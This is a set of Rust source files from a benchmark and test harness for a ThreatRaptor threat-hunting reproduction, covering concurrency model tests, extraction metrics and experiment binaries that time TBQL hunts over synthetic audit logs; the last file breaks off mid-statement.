/// Model 3: dispatcher fan-out, exactly-once delivery. A dispatcher
/// thread re-polls a standing query on every epoch change and fans the
/// per-poll delta out over a channel, racing an appender that delivers
/// the re-leadable tie chunks. Across *all* schedules — including the
/// poll landing between the two chunks, where the merged run changes
/// its leading event id — the total delivered matches must equal the
/// from-scratch batch count. (The `check_mutants` build re-introduces
/// the PR 3 event-id `MatchKey` and this model must catch it.)
#[test]
fn model_dispatcher_exactly_once_fanout() {
    let sc = tie_scenario();
    let (base, first, tie) = (sc.base, sc.first, sc.tie);
    // Compile outside the model: plan compilation is single-threaded
    // and would only deepen every schedule without adding candidates.
    let plan = PlanCache::new()
        .plan("proc p read file f return p, f")
        .expect("pair query compiles")
        .0;
    let report = model(cfg("dispatcher-fanout", 4_000), move || {
        let svc = Arc::new(manual_ingest());
        svc.append(&base);
        let e0 = svc.epoch();
        let target = e0 + 2; // two appends, one epoch bump each

        let (tx, rx) = crossbeam::channel::bounded::<usize>(8);
        let svc2 = Arc::clone(&svc);
        let plan2 = Arc::clone(&plan);
        let dispatcher = thread::spawn(move || {
            let mut hunt = FollowHunt::new(plan2, ExecMode::Scheduled, 1);
            let mut last = e0;
            loop {
                let delta = svc2.poll(&mut hunt).expect("poll succeeds");
                tx.send(delta.new_matches).expect("subscriber is alive");
                if last >= target {
                    return;
                }
                last = svc2.wait_epoch_newer(last, Duration::from_secs(30));
            }
        });

        let svc3 = Arc::clone(&svc);
        let (first, tie) = (first.clone(), tie.clone());
        let appender = thread::spawn(move || {
            svc3.append(&first);
            svc3.append(&tie);
        });

        let delivered: usize = rx.iter().sum();
        dispatcher.join().unwrap();
        appender.join().unwrap();

        let batch = threatraptor_engine::ShardedEngine::new(&svc.snapshot())
            .hunt("proc p read file f return p, f")
            .expect("batch hunt succeeds")
            .matches
            .len();
        assert_eq!(batch, 1, "the tied reads merge into one run");
        assert_eq!(
            delivered, batch,
            "fan-out must deliver every match exactly once (re-led runs must not refire)"
        );
    });
    finish(&report, 1_500);
}

/// Model 4: PlanCache LRU under concurrent get-or-compile. Two threads
/// compile distinct queries into a capacity-1 cache (compile happens
/// outside the write lock; the loser of the insert race drops its
/// plan). Every caller must get the right plan and the capacity bound
/// must hold on every schedule.
#[test]
fn model_plan_cache_concurrent_get_or_compile() {
    let q1 = "proc p read file f return p, f";
    let q2 = "proc p write file f return p, f";
    let report = model(cfg("plan-cache", 4_000), move || {
        let cache = Arc::new(PlanCache::with_capacities(1, 1));
        // `CachedPlan::tbql` is the pretty-printed source; the operation
        // word identifies which query's plan a caller received.
        let handles: Vec<_> = [(q1, "read"), (q2, "write")]
            .into_iter()
            .map(|(q, op)| {
                let cache = Arc::clone(&cache);
                thread::spawn(move || {
                    let (plan, _hit) = cache.plan(q).expect("query compiles");
                    assert!(plan.tbql.contains(op), "wrong plan returned for {q:?}");
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
        let (plan, _) = cache.plan(q1).expect("recompile after possible eviction");
        assert!(plan.tbql.contains("read"));
        let stats = cache.stats();
        assert!(
            stats.plans <= 1,
            "capacity-1 cache holds {} plans",
            stats.plans
        );
        assert!(
            stats.misses >= 2,
            "two distinct queries cannot share a compilation"
        );
    });
    finish(&report, 2_500);
}
