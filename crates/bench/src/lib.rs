//! # threatraptor-bench
//!
//! Benchmark and experiment harness for the ThreatRaptor reproduction.
//!
//! The demo paper carries no numbered result tables (see DESIGN.md); this
//! crate regenerates (a) the Fig. 2 end-to-end case study and (b) the
//! full-length paper's evaluation suite reconstructed from its experiment
//! design:
//!
//! | experiment | binary | criterion bench |
//! |---|---|---|
//! | E1 Fig. 2 case study          | `exp_e1` | — |
//! | E2 extraction accuracy        | `exp_e2` | — |
//! | E3 query-execution efficiency | `exp_e3` | `bench_execution` |
//! | E4 scheduling scaling         | `exp_e4` | `bench_scaling` |
//! | E5 query conciseness          | `exp_e5` | — |
//! | E6 CPR data reduction         | `exp_e6` | `bench_cpr` |
//! | E7 NLP pipeline throughput    | `exp_e7` | `bench_nlp` |
//! | E8 synthesis correctness      | `exp_e8` | — |
//! | E9 concurrent hunt throughput | `exp_e9` | `bench_service` |
//! | E10 streaming ingest & hunt-under-ingest | `exp_e10` | — |
//!
//! Shared infrastructure: the annotated OSCTI [`corpus`], the per-attack
//! [`cases`] (report text + ground truth + reference queries), the
//! hand-written [`reference`] SQL/Cypher/TBQL texts, evaluation
//! [`metrics`], and table [`fmt`]ting.

pub mod cases;
pub mod corpus;
pub mod fmt;
pub mod metrics;
pub mod reference;
pub mod suite;

pub use cases::{all_cases, AttackCase};
pub use corpus::{corpus, CorpusReport, GoldIoc, GoldRelation};
pub use metrics::{extraction_scores, Prf};
pub use suite::{run_case, run_suite, CaseResult, EngineKind, Workload};
