//! Evaluation metrics for threat behavior extraction (E2).

use crate::corpus::CorpusReport;
use std::collections::BTreeSet;
use threatraptor_nlp::ThreatExtractor;

/// Precision / recall / F1 accumulator.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct Prf {
    /// True positives.
    pub tp: usize,
    /// False positives (predicted but not gold).
    pub fp: usize,
    /// False negatives (gold but not predicted).
    pub fn_: usize,
}

impl Prf {
    /// Precision (1.0 when nothing was predicted and nothing expected).
    pub fn precision(&self) -> f64 {
        if self.tp + self.fp == 0 {
            if self.fn_ == 0 {
                1.0
            } else {
                0.0
            }
        } else {
            self.tp as f64 / (self.tp + self.fp) as f64
        }
    }

    /// Recall.
    pub fn recall(&self) -> f64 {
        if self.tp + self.fn_ == 0 {
            1.0
        } else {
            self.tp as f64 / (self.tp + self.fn_) as f64
        }
    }

    /// F1 score.
    pub fn f1(&self) -> f64 {
        let p = self.precision();
        let r = self.recall();
        if p + r == 0.0 {
            0.0
        } else {
            2.0 * p * r / (p + r)
        }
    }

    /// Merges another accumulator (micro-averaging).
    pub fn merge(&mut self, other: Prf) {
        self.tp += other.tp;
        self.fp += other.fp;
        self.fn_ += other.fn_;
    }

    fn from_sets<T: Ord>(predicted: BTreeSet<T>, gold: BTreeSet<T>) -> Prf {
        let tp = predicted.intersection(&gold).count();
        Prf {
            tp,
            fp: predicted.len() - tp,
            fn_: gold.len() - tp,
        }
    }
}

/// Runs the extraction pipeline on a report and scores it against the
/// gold annotations. Returns `(ioc_scores, relation_scores)`.
pub fn extraction_scores(report: &CorpusReport) -> (Prf, Prf) {
    let result = ThreatExtractor::new().extract(report.text);

    // IOC comparison on (canonical text, type).
    let predicted_iocs: BTreeSet<(String, String)> = result
        .iocs
        .canon
        .iter()
        .map(|i| (i.text.clone(), i.ty.label().to_string()))
        .collect();
    let gold_iocs: BTreeSet<(String, String)> = report
        .gold_iocs
        .iter()
        .map(|g| (g.text.to_string(), g.ty.label().to_string()))
        .collect();
    let ioc_prf = Prf::from_sets(predicted_iocs, gold_iocs);

    // Relation comparison on (subject text, verb lemma, object text).
    let g = &result.graph;
    let predicted_rels: BTreeSet<(String, String, String)> = g
        .edges
        .iter()
        .map(|e| {
            (
                g.nodes[e.src].text.clone(),
                e.verb.clone(),
                g.nodes[e.dst].text.clone(),
            )
        })
        .collect();
    let gold_rels: BTreeSet<(String, String, String)> = report
        .gold_relations
        .iter()
        .map(|r| {
            (
                r.subject.to_string(),
                r.verb.to_string(),
                r.object.to_string(),
            )
        })
        .collect();
    let rel_prf = Prf::from_sets(predicted_rels, gold_rels);

    (ioc_prf, rel_prf)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::corpus;

    #[test]
    fn prf_arithmetic() {
        let p = Prf {
            tp: 8,
            fp: 2,
            fn_: 0,
        };
        assert!((p.precision() - 0.8).abs() < 1e-9);
        assert!((p.recall() - 1.0).abs() < 1e-9);
        assert!((p.f1() - 2.0 * 0.8 / 1.8).abs() < 1e-9);
        let empty = Prf::default();
        assert_eq!(empty.precision(), 1.0);
        assert_eq!(empty.recall(), 1.0);
        let mut acc = p;
        acc.merge(Prf {
            tp: 2,
            fp: 0,
            fn_: 2,
        });
        assert_eq!(
            acc,
            Prf {
                tp: 10,
                fp: 2,
                fn_: 2
            }
        );
    }

    #[test]
    fn fig2_report_scores_perfectly() {
        let c = corpus();
        let fig2 = c.iter().find(|r| r.id == "demo_data_leakage").unwrap();
        let (ioc, rel) = extraction_scores(fig2);
        assert_eq!(ioc.precision(), 1.0, "{ioc:?}");
        assert_eq!(ioc.recall(), 1.0, "{ioc:?}");
        assert_eq!(rel.recall(), 1.0, "{rel:?}");
        assert_eq!(rel.precision(), 1.0, "{rel:?}");
    }

    #[test]
    fn corpus_wide_scores_are_strong() {
        let mut ioc_total = Prf::default();
        let mut rel_total = Prf::default();
        for report in corpus() {
            let (i, r) = extraction_scores(&report);
            ioc_total.merge(i);
            rel_total.merge(r);
        }
        // The shape claim (DESIGN.md §5): both strong, IOC extraction
        // stronger than relation extraction.
        assert!(ioc_total.f1() > 0.9, "IOC F1 {:.3}", ioc_total.f1());
        assert!(rel_total.f1() > 0.75, "relation F1 {:.3}", rel_total.f1());
        assert!(ioc_total.f1() >= rel_total.f1());
    }
}
