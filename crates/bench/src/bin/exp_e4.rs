//! E4 — scheduling-ablation scaling curve.
//!
//! Reconstructs the scaling figure: execution time of the Fig. 2 query
//! under scheduled vs unscheduled execution as the event count grows.
//! The shape claim: the gap widens with log size, because constraint
//! propagation keeps intermediate results proportional to the (constant)
//! attack size rather than to the log.

use std::time::Instant;
use threatraptor::prelude::*;
use threatraptor_bench::fmt;
use threatraptor_storage::AuditStore;

fn main() {
    println!("== E4: scheduled vs unscheduled execution, scaling with log size ==\n");
    let sizes = [10_000usize, 30_000, 100_000, 300_000, 1_000_000];
    let mut rows = Vec::new();
    for &size in &sizes {
        let scenario = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(size)
            .build();
        let store = AuditStore::ingest(&scenario.log, true);
        let engine = Engine::new(&store);

        let time = |mode: ExecMode| {
            // Warm once, then take the best of 3 (reduces jitter).
            engine.hunt_mode(threatraptor::FIG2_TBQL, mode).unwrap();
            (0..3)
                .map(|_| {
                    let t0 = Instant::now();
                    let r = engine.hunt_mode(threatraptor::FIG2_TBQL, mode).unwrap();
                    assert!(!r.is_empty());
                    t0.elapsed()
                })
                .min()
                .unwrap()
        };
        let scheduled = time(ExecMode::Scheduled);
        let unscheduled = time(ExecMode::Unscheduled);
        rows.push(vec![
            size.to_string(),
            store.event_count().to_string(),
            fmt::dur(scheduled),
            fmt::dur(unscheduled),
            format!(
                "{:.2}x",
                unscheduled.as_secs_f64() / scheduled.as_secs_f64().max(1e-9)
            ),
        ]);
    }
    println!(
        "{}",
        fmt::table(
            &[
                "raw events",
                "stored (CPR)",
                "scheduled",
                "unscheduled",
                "gap"
            ],
            &rows
        )
    );
    println!("shape check: the gap column should not shrink as the log grows.");
}
