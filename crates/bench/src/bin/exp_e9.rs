//! E9 — service-layer hunt throughput vs. shards and workers.
//!
//! The paper's system executes one hunt at a time; the service layer
//! (PR 1) runs many concurrently over a sharded store with a shared
//! compiled-plan cache. This experiment measures:
//!
//! 1. **worker scaling** — throughput (hunts/s) of a fixed mixed batch as
//!    the worker pool grows from 1 to the core count, over an 8-shard
//!    store (the acceptance criterion: throughput must not degrade as
//!    workers are added, and improves monotonically on multi-core hosts);
//! 2. **shard scaling** — single-hunt latency as the shard count grows
//!    with all-core shard fan-out (per-pattern scatter-gather);
//! 3. **plan-cache effect** — the same batch with a cold vs. warm cache.

use std::sync::Arc;
use std::time::Instant;
use threatraptor::prelude::*;
use threatraptor_bench::{all_cases, fmt};
use threatraptor_service::{HuntScheduler, PlanCache};
use threatraptor_storage::ShardedStore;

/// A mixed job batch: every attack case, hunted both from the analyst
/// query and from the raw OSCTI report, repeated to `len` jobs.
fn mixed_batch(len: usize) -> Vec<HuntJob> {
    let cases = all_cases();
    let mut jobs = Vec::with_capacity(len);
    for i in 0..len {
        let case = &cases[i % cases.len()];
        if (i / cases.len()).is_multiple_of(2) {
            jobs.push(HuntJob::tbql(case.reference_tbql));
        } else {
            jobs.push(HuntJob::report(case.report));
        }
    }
    jobs
}

fn main() {
    println!("== E9: concurrent hunt throughput over a sharded store ==\n");
    let cores = std::thread::available_parallelism()
        .map(|p| p.get())
        .unwrap_or(1);

    let scenario = ScenarioBuilder::new()
        .seed(42)
        .attacks(&AttackKind::ALL)
        .target_events(60_000)
        .build();

    // -- 1. worker scaling over an 8-shard store ------------------------
    let store = Arc::new(ShardedStore::ingest(&scenario.log, true, 8));
    let batch_len = 64;
    println!(
        "store: {} events in {} shards | batch: {} mixed jobs (TBQL + OSCTI reports)\n",
        store.event_count(),
        store.shard_count(),
        batch_len
    );

    let mut worker_counts = vec![1usize];
    let mut w = 2;
    while w < cores {
        worker_counts.push(w);
        w *= 2;
    }
    if cores > 1 {
        worker_counts.push(cores);
    }

    let mut rows = Vec::new();
    let mut base = None;
    for &workers in &worker_counts {
        let cache = Arc::new(PlanCache::new());
        let sched = HuntScheduler::new(Arc::clone(&store), Arc::clone(&cache)).workers(workers);
        // Warm the caches once so every configuration measures execution,
        // not first-touch compilation.
        sched.run(mixed_batch(batch_len));
        let t0 = Instant::now();
        let reports = sched.run(mixed_batch(batch_len));
        let elapsed = t0.elapsed();
        assert!(reports.iter().all(|r| r.outcome.is_ok()));
        let hps = batch_len as f64 / elapsed.as_secs_f64();
        let speedup = *base.get_or_insert(hps);
        rows.push(vec![
            workers.to_string(),
            fmt::dur(elapsed),
            format!("{hps:.1}"),
            format!("{:.2}x", hps / speedup),
        ]);
    }
    println!(
        "{}",
        fmt::table(&["workers", "batch time", "hunts/s", "speedup"], &rows)
    );
    println!("shape check: hunts/s should rise monotonically up to the core count ({cores}).\n");

    // -- 2. shard scaling for one hunt with all-core fan-out ------------
    let mut rows = Vec::new();
    for shards in [1usize, 2, 4, 8, 16] {
        let store = ShardedStore::ingest(&scenario.log, true, shards);
        let engine = ShardedEngine::new(&store);
        engine.hunt(threatraptor::FIG2_TBQL).unwrap();
        let best = (0..3)
            .map(|_| {
                let t0 = Instant::now();
                let r = engine.hunt(threatraptor::FIG2_TBQL).unwrap();
                assert!(!r.is_empty());
                t0.elapsed()
            })
            .min()
            .unwrap();
        rows.push(vec![shards.to_string(), fmt::dur(best)]);
    }
    println!(
        "{}",
        fmt::table(&["shards", "single-hunt latency (best of 3)"], &rows)
    );

    // -- 3. plan-cache effect -------------------------------------------
    let cache = Arc::new(PlanCache::new());
    let sched = HuntScheduler::new(Arc::clone(&store), Arc::clone(&cache)).workers(cores);
    let t0 = Instant::now();
    sched.run(mixed_batch(batch_len));
    let cold = t0.elapsed();
    let t0 = Instant::now();
    sched.run(mixed_batch(batch_len));
    let warm = t0.elapsed();
    let stats = cache.stats();
    println!(
        "plan cache: cold batch {} vs warm batch {} ({:.2}x) | {} plans, {} syntheses, {:.0}% hit rate",
        fmt::dur(cold),
        fmt::dur(warm),
        cold.as_secs_f64() / warm.as_secs_f64().max(1e-9),
        stats.plans,
        stats.reports,
        stats.hit_ratio() * 100.0
    );
}
