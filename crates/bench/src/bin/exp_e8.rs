//! E8 — synthesis correctness: synthesized vs analyst-written queries.
//!
//! For every attack case: extract the behavior graph from the case's
//! OSCTI report, synthesize a TBQL query, and compare it against the
//! reference query an analyst wrote by hand — textually (canonical form)
//! and behaviorally (identical hunt results and ground-truth recall).

use threatraptor::prelude::*;
use threatraptor_bench::{all_cases, fmt};
use threatraptor_storage::AuditStore;
use threatraptor_synth::synthesize;
use threatraptor_tbql::analyze::analyze;
use threatraptor_tbql::parser::parse_query;

fn main() {
    println!("== E8: synthesized queries vs analyst-written references ==\n");
    let scenario = ScenarioBuilder::new()
        .seed(42)
        .attacks(&[
            AttackKind::DataLeakage,
            AttackKind::PasswordCrack,
            AttackKind::MalwareDrop,
            AttackKind::DbExfil,
        ])
        .target_events(100_000)
        .build();
    let store = AuditStore::ingest(&scenario.log, true);
    let engine = Engine::new(&store);
    let extractor = ThreatExtractor::new();

    let mut rows = Vec::new();
    for case in all_cases() {
        let extraction = extractor.extract(case.report);
        let synthesized = synthesize(&extraction.graph).expect("synthesis succeeds");
        let synthesized_text = print_query(&synthesized);
        let reference_query = parse_query(case.reference_tbql).unwrap();
        let reference_text = print_query(&reference_query);
        // Semantic equality: canonical signatures are independent of
        // cosmetic choices like repeated type keywords.
        let textually_equal = analyze(&synthesized).unwrap().canonical_signature()
            == analyze(&reference_query).unwrap().canonical_signature();

        let syn_result = engine
            .hunt_query(&synthesized, ExecMode::Scheduled)
            .expect("synthesized query executes");
        let ref_result = engine
            .hunt_mode(case.reference_tbql, ExecMode::Scheduled)
            .expect("reference query executes");
        let same_rows = syn_result.rows == ref_result.rows;

        let gt = scenario.ground_truth(case.kind.case_name());
        let (p, r) = syn_result.precision_recall(&store, &gt);

        rows.push(vec![
            case.name.to_string(),
            synthesized.pattern_count().to_string(),
            if textually_equal { "yes" } else { "no" }.to_string(),
            if same_rows { "yes" } else { "no" }.to_string(),
            fmt::f3(p),
            fmt::f3(r),
        ]);
        if !textually_equal {
            println!("-- {}: synthesized --\n{synthesized_text}", case.name);
            println!("-- {}: reference --\n{reference_text}", case.name);
        }
        assert!(
            same_rows,
            "{}: synthesized and reference rows differ",
            case.name
        );
        assert_eq!((p, r), (1.0, 1.0), "{}: hunt must be exact", case.name);
    }
    println!(
        "{}",
        fmt::table(
            &[
                "case",
                "patterns",
                "≡ reference",
                "rows == reference",
                "precision",
                "recall"
            ],
            &rows
        )
    );
    println!("E8 OK: every synthesized query hunts its attack exactly.");
}
