//! E1 — the paper's Fig. 2 end-to-end case study.
//!
//! Reproduces the complete pipeline on the data-leakage attack: OSCTI
//! text → threat behavior graph → synthesized TBQL query → matched system
//! auditing records, hunted among benign noise.

use threatraptor::prelude::*;
use threatraptor_bench::fmt;

fn main() {
    let scenario = ScenarioBuilder::new()
        .seed(42)
        .attacks(&[AttackKind::DataLeakage])
        .target_events(50_000)
        .build();
    println!("== E1: Fig. 2 end-to-end case study ==\n");
    println!(
        "scenario: {} events, {} entities (seed 42, benign noise + data-leakage attack)\n",
        scenario.log.events.len(),
        scenario.log.entities.len()
    );

    let raptor = ThreatRaptor::from_parsed(&scenario.log, true);
    let outcome = raptor
        .hunt_report(threatraptor::FIG2_OSCTI_TEXT)
        .expect("the Fig. 2 attack is present in the scenario");

    println!("-- OSCTI text (excerpt) --");
    let excerpt: String = threatraptor::FIG2_OSCTI_TEXT.chars().take(300).collect();
    println!("{excerpt}…\n");

    println!("-- Threat behavior graph --");
    println!("{}", outcome.extraction.graph);

    println!("-- Synthesized TBQL query --");
    println!("{}", outcome.tbql);

    println!("-- Matched system auditing records --");
    println!("{}", outcome.result.render_table());

    let gt = scenario.ground_truth("data_leakage");
    let (precision, recall) = outcome.result.precision_recall(raptor.store(), &gt);
    let rows = vec![vec![
        outcome.extraction.graph.node_count().to_string(),
        outcome.extraction.graph.edge_count().to_string(),
        outcome.query.pattern_count().to_string(),
        outcome.result.matches.len().to_string(),
        fmt::f3(precision),
        fmt::f3(recall),
    ]];
    println!(
        "{}",
        fmt::table(
            &[
                "IOC nodes",
                "edges",
                "TBQL patterns",
                "matches",
                "precision",
                "recall"
            ],
            &rows
        )
    );
    assert_eq!(
        (precision, recall),
        (1.0, 1.0),
        "E1 must match the chain exactly"
    );
    println!("E1 OK: the synthesized query retrieves exactly the attack chain.");
}
