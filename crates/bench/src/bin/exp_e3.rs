//! E3 — query-execution efficiency per attack case.
//!
//! Reconstructs the full paper's efficiency comparison: for each attack
//! case, the reference TBQL query is executed with ThreatRaptor's
//! scheduled engine and with the three baselines (unscheduled,
//! relational-only, graph-only) over stores of two sizes. Reported: wall
//! time per strategy, speedup over the slowest, and result correctness
//! (all strategies must return identical rows).

use std::time::Instant;
use threatraptor::prelude::*;
use threatraptor_bench::{all_cases, fmt};
use threatraptor_storage::AuditStore;

fn main() {
    println!("== E3: query execution efficiency (TBQL engine vs baselines) ==\n");
    let modes = [
        ExecMode::Scheduled,
        ExecMode::Unscheduled,
        ExecMode::RelationalOnly,
        ExecMode::GraphOnly,
    ];
    for &size in &[100_000usize, 300_000] {
        let scenario = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[
                AttackKind::DataLeakage,
                AttackKind::PasswordCrack,
                AttackKind::MalwareDrop,
                AttackKind::DbExfil,
            ])
            .target_events(size)
            .build();
        let store = AuditStore::ingest(&scenario.log, true);
        println!(
            "store: {} raw events → {} after CPR, {} entities\n",
            scenario.log.events.len(),
            store.event_count(),
            store.entities.len()
        );
        let engine = Engine::new(&store);

        let mut rows = Vec::new();
        for case in all_cases() {
            let mut timings = Vec::new();
            let mut reference_rows: Option<Vec<Vec<String>>> = None;
            for mode in modes {
                let t0 = Instant::now();
                let result = engine
                    .hunt_mode(case.reference_tbql, mode)
                    .expect("reference queries execute");
                let elapsed = t0.elapsed();
                match &reference_rows {
                    None => reference_rows = Some(result.rows.clone()),
                    Some(r) => {
                        assert_eq!(r, &result.rows, "{}: mode {mode:?} disagrees", case.name)
                    }
                }
                timings.push(elapsed);
            }
            let gt = scenario.ground_truth(case.kind.case_name());
            let check = engine
                .hunt_mode(case.reference_tbql, ExecMode::Scheduled)
                .unwrap();
            let (p, r) = check.precision_recall(&store, &gt);
            let slowest = timings.iter().max().copied().unwrap();
            rows.push(vec![
                case.name.to_string(),
                fmt::dur(timings[0]),
                fmt::dur(timings[1]),
                fmt::dur(timings[2]),
                fmt::dur(timings[3]),
                format!(
                    "{:.1}x",
                    slowest.as_secs_f64() / timings[0].as_secs_f64().max(1e-9)
                ),
                format!("{:.2}/{:.2}", p, r),
            ]);
        }
        println!(
            "{}",
            fmt::table(
                &[
                    "case",
                    "ThreatRaptor",
                    "Unscheduled",
                    "SQL-only",
                    "Graph-only",
                    "speedup vs slowest",
                    "P/R"
                ],
                &rows
            )
        );
    }
    println!("shape check: the scheduled engine should be fastest or tied on every case.");
}
