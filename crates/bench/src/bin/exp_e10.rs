//! E10 — streaming ingest throughput and hunt-under-ingest latency.
//!
//! The streaming layer (ISSUE 2) turns the batch store into a live one:
//! chunks append into an open window with incremental CPR, a seal policy
//! freezes immutable shards, and hunts run against snapshots while
//! ingestion continues. This experiment measures:
//!
//! 1. **ingest throughput** — raw events/s through append + auto-seal as
//!    a function of the seal threshold (which controls how many sealed
//!    shards the log ends up in), with and without CPR;
//! 2. **hunt-under-ingest latency** — snapshot + hunt cost at
//!    checkpoints during one continuous ingest, vs. the number of sealed
//!    shards at that moment (snapshot cost is bounded by the open
//!    window, so latency should track query cost, not stream length);
//! 3. **follow-mode polling** — cost of a standing query's poll when new
//!    data arrived vs. the free no-change fast path.
//!
//! `--smoke` runs a reduced configuration for CI.

use std::time::Instant;
use threatraptor::prelude::*;
use threatraptor_audit::LogFeed;
use threatraptor_bench::fmt;
use threatraptor_service::{IngestConfig, IngestService};

fn main() {
    let smoke = std::env::args().any(|a| a == "--smoke");
    println!("== E10: streaming ingest & hunt-under-ingest ==\n");

    let target_events = if smoke { 8_000 } else { 60_000 };
    let chunk = 512;
    let scenario = ScenarioBuilder::new()
        .seed(42)
        .attacks(&AttackKind::ALL)
        .target_events(target_events)
        .build();
    let raw_events = scenario.log.events.len();
    println!(
        "scenario: {} raw events, {} entities | replay chunk: {} events\n",
        raw_events,
        scenario.log.entities.len(),
        chunk
    );

    // -- 1. ingest throughput vs seal threshold -------------------------
    let thresholds: &[usize] = if smoke {
        &[1_000, 4_000]
    } else {
        &[1_000, 4_000, 16_000, usize::MAX]
    };
    let mut rows = Vec::new();
    for &threshold in thresholds {
        for cpr in [true, false] {
            let policy = if threshold == usize::MAX {
                SealPolicy::manual()
            } else {
                SealPolicy::events(threshold)
            };
            let mut store = StreamingStore::new(cpr, policy);
            let t0 = Instant::now();
            for part in LogFeed::by_events(&scenario.raw, chunk) {
                store.append(&part.expect("well-formed log"));
            }
            let elapsed = t0.elapsed();
            let eps = raw_events as f64 / elapsed.as_secs_f64();
            rows.push(vec![
                if threshold == usize::MAX {
                    "manual".into()
                } else {
                    threshold.to_string()
                },
                if cpr { "on" } else { "off" }.into(),
                store.sealed_count().to_string(),
                store.open_len().to_string(),
                format!("{:.2}x", store.reduction().factor()),
                fmt::dur(elapsed),
                format!("{:.0}", eps),
            ]);
        }
    }
    println!(
        "{}",
        fmt::table(
            &[
                "seal every",
                "cpr",
                "sealed shards",
                "open events",
                "reduction",
                "ingest time",
                "events/s"
            ],
            &rows
        )
    );
    println!("(parse + incremental reduce + auto-seal; parsing dominates)\n");

    // -- 2. hunt-under-ingest latency vs sealed shard count -------------
    let threshold = if smoke { 1_000 } else { 4_000 };
    let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(threshold)));
    let checkpoints = if smoke { 4 } else { 8 };
    let chunks: Vec<_> = LogFeed::by_events(&scenario.raw, chunk)
        .map(|c| c.expect("well-formed log"))
        .collect();
    let per_checkpoint = chunks.len().div_ceil(checkpoints);
    let mut rows = Vec::new();
    for group in chunks.chunks(per_checkpoint) {
        for part in group {
            service.append(part);
        }
        let status = service.status();
        let t0 = Instant::now();
        let result = service.hunt(threatraptor::FIG2_TBQL).unwrap();
        let hunt = t0.elapsed();
        rows.push(vec![
            status.total_events.to_string(),
            status.sealed_shards.to_string(),
            status.open_events.to_string(),
            result.matches.len().to_string(),
            fmt::dur(hunt),
        ]);
    }
    println!(
        "{}",
        fmt::table(
            &[
                "events stored",
                "sealed shards",
                "open events",
                "matches",
                "snapshot+hunt"
            ],
            &rows
        )
    );
    println!("shape check: latency tracks query cost, not total stream length.\n");

    // -- 3. follow-mode polling -----------------------------------------
    let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(threshold)));
    let (mut follow, _) = service.hunt_follow(threatraptor::FIG2_TBQL).unwrap();
    let mut data_polls = Vec::new();
    let mut fired_at_events = None;
    for part in &chunks {
        service.append(part);
        let t0 = Instant::now();
        let delta = service.poll(&mut follow).unwrap();
        data_polls.push(t0.elapsed());
        if !delta.is_empty() && fired_at_events.is_none() {
            fired_at_events = Some(service.status().reduction.before);
        }
    }
    let t0 = Instant::now();
    let idle = service.poll(&mut follow).unwrap();
    let idle_cost = t0.elapsed();
    assert!(idle.unchanged);
    let avg =
        data_polls.iter().sum::<std::time::Duration>() / u32::try_from(data_polls.len()).unwrap();
    println!(
        "follow-mode: {} polls, avg {} with new data | no-change poll {} | first alert after {} raw events | running matches: {}",
        follow.polls(),
        fmt::dur(avg),
        fmt::dur(idle_cost),
        fired_at_events.map_or("—".into(), |n| n.to_string()),
        follow.result().map_or(0, |r| r.matches.len()),
    );
}
