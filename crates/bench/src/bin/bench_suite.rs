//! The recorded bench trajectory runner.
//!
//! Runs the declarative engine × workload suite
//! ([`threatraptor_bench::suite`]), with every measurement drawn from
//! the telemetry layer's [`MetricsSnapshot`]s, and emits the versioned
//! machine-readable record checked into the repo as `BENCH_<pr>.json`.
//!
//! ```text
//! bench_suite [--smoke] [--out PATH] [--diff PREVIOUS.json]
//! bench_suite --validate RECORD.json
//! ```
//!
//! * `--smoke` — reduced scenario sizes (CI); still covers every case
//! * `--out` — where to write the record (default `BENCH_<pr>.json`
//!   for the current [`suite::PR`])
//! * `--diff` — also print a trajectory diff against a previous record;
//!   a missing file is reported, not fatal
//! * `--validate` — no run: parse PATH and check it against the
//!   `threatraptor-bench/v1` schema (exit 1 on problems)
//!
//! [`MetricsSnapshot`]: threatraptor_obs::MetricsSnapshot

use std::process::ExitCode;
use threatraptor_bench::fmt;
use threatraptor_bench::suite;
use threatraptor_obs::JsonValue;

struct Args {
    smoke: bool,
    out: String,
    diff: Option<String>,
    validate: Option<String>,
}

fn parse_args() -> Result<Args, String> {
    let mut args = Args {
        smoke: false,
        out: format!("BENCH_{}.json", suite::PR),
        diff: None,
        validate: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--smoke" => args.smoke = true,
            "--out" => args.out = it.next().ok_or("--out needs a path")?,
            "--diff" => args.diff = Some(it.next().ok_or("--diff needs a path")?),
            "--validate" => args.validate = Some(it.next().ok_or("--validate needs a path")?),
            other => return Err(format!("unknown argument {other:?}")),
        }
    }
    Ok(args)
}

fn load(path: &str) -> Result<JsonValue, String> {
    let text = std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))?;
    JsonValue::parse(&text).map_err(|e| format!("parsing {path}: {e}"))
}

fn main() -> ExitCode {
    let args = match parse_args() {
        Ok(args) => args,
        Err(e) => {
            eprintln!("bench_suite: {e}");
            return ExitCode::FAILURE;
        }
    };

    // Validation mode: no benchmark run at all.
    if let Some(path) = &args.validate {
        match load(path) {
            Ok(doc) => {
                let problems = suite::validate(&doc);
                if problems.is_empty() {
                    println!("{path}: valid {} record", suite::SCHEMA);
                    return ExitCode::SUCCESS;
                }
                for p in &problems {
                    eprintln!("{path}: {p}");
                }
                return ExitCode::FAILURE;
            }
            Err(e) => {
                eprintln!("bench_suite: {e}");
                return ExitCode::FAILURE;
            }
        }
    }

    println!(
        "== bench trajectory (PR {}, {}) ==\n",
        suite::PR,
        if args.smoke { "smoke" } else { "full" }
    );
    let results = suite::run_suite(args.smoke);

    // Human-readable summary of what went into the record.
    let rows: Vec<Vec<String>> = results
        .iter()
        .map(|c| {
            vec![
                format!("{}/{}", c.engine, c.workload),
                c.events.to_string(),
                c.hunts.to_string(),
                c.matches.to_string(),
                c.rejected.to_string(),
                c.rows_pruned.to_string(),
                fmt::dur(std::time::Duration::from_nanos(c.latency.p50)),
                fmt::dur(std::time::Duration::from_nanos(c.latency.p99)),
                fmt::dur(std::time::Duration::from_nanos(c.latency.max)),
                c.profile
                    .first()
                    .map(|(k, _)| k.clone())
                    .unwrap_or_default(),
            ]
        })
        .collect();
    println!(
        "{}",
